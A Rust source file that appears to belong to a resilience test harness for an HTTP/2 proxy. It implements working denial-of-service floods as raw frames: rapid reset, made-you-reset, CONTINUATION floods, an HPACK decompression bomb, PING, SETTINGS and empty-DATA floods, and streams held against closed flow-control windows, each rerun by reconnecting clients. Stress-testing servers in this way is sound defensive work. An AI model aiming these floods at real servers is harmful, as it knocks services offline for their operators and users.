//! R14: hostile HTTP/2 clients (T17 to T22), a few at a time, each back as soon as it is cut.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, GET_LARGE, HEADERS, PING, POST, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame, opening,
};
use crate::tally::{Conn, Tally};

/// `SETTINGS_INITIAL_WINDOW_SIZE`.
const WINDOW: u16 = 4;
/// Frames, or pairs of them, that are sent together.
const BURST: u32 = 100;
/// Pause of one that holds and waits.
const LOOK: Duration = Duration::from_millis(50);
/// Pause before one that was cut comes back: as long as a round trip on a network takes.
const BACK: Duration = Duration::from_millis(5);

/// One attack.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Flood {
    /// Its row.
    pub(crate) row: &'static str,
    pub(crate) what: &'static str,
    /// Connections at a time.
    pub(crate) clients: usize,
    settings: &'static [(u16, u32)],
    /// What is sent, by the number of the burst.
    burst: fn(u32) -> Vec<u8>,
    /// How many; then the connection is held until the proxy has enough of it.
    bursts: u32,
    /// Whether it reads what the proxy says.
    reads: bool,
}

pub(crate) const FLOODS: [Flood; 11] = [
    Flood { row: "T17", what: "rapid reset", burst: rapid_reset, ..FLOOD },
    Flood { row: "T18", what: "made-you-reset", burst: made_you_reset, ..FLOOD },
    Flood { row: "T19", what: "CONTINUATION, empty", burst: continuation_empty, ..FLOOD },
    Flood { row: "T19", what: "CONTINUATION, 16 KiB", burst: continuation_full, ..FLOOD },
    Flood { row: "T20", what: "HPACK bomb", burst: bomb, ..FLOOD },
    Flood { row: "T20", what: "heads, closed window", burst: heads, ..HOLD },
    Flood { row: "T21", what: "PING, not reading", burst: ping, reads: false, ..FLOOD },
    Flood { row: "T21", what: "SETTINGS, not reading", burst: settings, reads: false, ..FLOOD },
    Flood { row: "T21", what: "empty DATA", burst: empty_data, ..FLOOD },
    Flood { row: "T22", what: "large, closed window", burst: large, ..HOLD },
    Flood {
        row: "T22",
        what: "large, not reading",
        settings: &[(WINDOW, 1 << 30)],
        reads: false,
        burst: large,
        ..HOLD
    },
];

const FLOOD: Flood = Flood {
    row: "",
    what: "",
    clients: 4,
    settings: &[],
    burst: ping,
    bursts: u32::MAX,
    reads: true,
};
const HOLD: Flood = Flood { clients: 10, settings: &[(WINDOW, 0)], bursts: 1, ..FLOOD };

impl Flood {
    /// Attacks until the tally is over.
    pub(crate) async fn run(self, to: SocketAddr, tally: Arc<Tally>) {
        let numbers = Arc::new(AtomicUsize::new(0));
        let client = || {
            let (tally, numbers) = (Arc::clone(&tally), Arc::clone(&numbers));
            tokio::spawn(async move {
                while !tally.is_over() {
                    let number = numbers.fetch_add(1, Ordering::Relaxed);
                    if let Some(conn) = Conn::open(to, number, &tally).await {
                        self.attack(conn, &tally).await;
                    }
                    tokio::time::sleep(BACK).await;
                }
            })
        };
        let clients: Vec<_> = (0..self.clients).map(|_| client()).collect();
        for client in clients {
            client.await.expect("an attacker does not panic");
        }
    }

    async fn attack(self, conn: Conn, tally: &Tally) {
        if !conn.send(&opening(self.settings)).await {
            return;
        }
        for number in 0..self.bursts {
            let goes_on = conn.send(&(self.burst)(number)).await;
            if !goes_on || tally.is_over() || (self.reads && !conn.take()) {
                return;
            }
            // A socket that takes everything would keep the others from their turn.
            tokio::task::yield_now().await;
        }
        let mut silent = 0;
        while !tally.is_over() {
            tokio::time::sleep(LOOK).await;
            // Who does not read learns of the end by what it sends: a PING, far below what is
            // too many.
            silent += 1;
            let is_open = if self.reads { conn.take() } else { true };
            let pings = !self.reads && silent % 20 == 0;
            if !is_open || (pings && !conn.send(&frame(PING, 0, 0, &[0; 8])).await) {
                return;
            }
        }
    }
}

/// The streams of a burst.
fn streams(burst: u32) -> impl Iterator<Item = u32> {
    (0..BURST).map(move |number| 2 * (burst * BURST + number) + 1)
}

fn rapid_reset(burst: u32) -> Vec<u8> {
    let pair = |id| {
        let head = frame(HEADERS, END_HEADERS | END_STREAM, id, GET);
        [head, frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
    };
    streams(burst).flat_map(pair).collect()
}

fn made_you_reset(burst: u32) -> Vec<u8> {
    let pair = |id| {
        let head = frame(HEADERS, END_HEADERS, id, POST);
        [head, frame(WINDOW_UPDATE, 0, id, &[0; 4])].concat()
    };
    streams(burst).flat_map(pair).collect()
}

fn continuation_empty(burst: u32) -> Vec<u8> {
    continuation(burst, &[])
}

fn continuation_full(burst: u32) -> Vec<u8> {
    // A literal that is announced as longer than all of it.
    continuation(burst, &[b'v'; 16 * 1024])
}

fn continuation(burst: u32, payload: &[u8]) -> Vec<u8> {
    let head = frame(HEADERS, 0, 1, &[0x40, 1, b'x', 0x7f, 0xff, 0xff, 0x7f]);
    let more = frame(CONTINUATION, 0, 1, payload).repeat(if payload.is_empty() { 1000 } else { 8 });
    if burst == 0 { [head, more].concat() } else { more }
}

/// An entry of 4,000 bytes, and then 12,000 references to it.
fn bomb(burst: u32) -> Vec<u8> {
    let entry = [&[0x40, 1, b'x', 0x7f, 0x81, 0x1e][..], &[b'v'; 4_000]].concat();
    let block = [GET, &entry, &[0xbe; 12_000]].concat();
    frame(HEADERS, END_HEADERS | END_STREAM, 2 * burst + 1, &block)
}

/// The largest heads on all streams that there may be.
fn heads(burst: u32) -> Vec<u8> {
    let head = |id| {
        let mut block = GET.to_vec();
        if id == 1 {
            block.extend([0x40, 1, b'x', 0x7f, 0xbd, 0x1d]);
            block.extend([b'v'; 3900]);
            block.extend([0xbe; 3]);
        } else {
            block.extend([0xbe; 4]);
        }
        frame(HEADERS, END_HEADERS | END_STREAM, id, &block)
    };
    streams(burst).flat_map(head).collect()
}

fn ping(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8]).repeat(BURST as usize)
}

fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(BURST as usize)
}

fn empty_data(burst: u32) -> Vec<u8> {
    let head = frame(HEADERS, END_HEADERS, 1, POST);
    let data = frame(DATA, 0, 1, &[]).repeat(BURST as usize);
    if burst == 0 { [head, data].concat() } else { data }
}

fn large(burst: u32) -> Vec<u8> {
    let window = frame(WINDOW_UPDATE, 0, 0, &(1u32 << 30).to_be_bytes());
    let head = |id| frame(HEADERS, END_HEADERS | END_STREAM, id, GET_LARGE);
    [window, streams(burst).flat_map(head).collect()].concat()
}
